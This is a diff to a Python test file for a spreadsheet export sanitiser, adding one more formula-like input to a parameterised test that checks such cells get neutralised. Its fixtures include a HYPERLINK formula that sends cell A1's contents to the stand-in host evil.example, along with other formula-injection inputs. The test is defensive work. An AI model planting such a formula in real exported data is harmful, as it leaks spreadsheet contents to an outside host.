@@ -11,7 +11,7 @@ from common.exports import SafeCsvWriter, safe_cell, workbook_bytes
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
-@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1"])
+@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=1", "-١٢"])
 def test_text_a_spreadsheet_would_run_is_quoted(text):
     assert safe_cell(text) == "'" + text
 
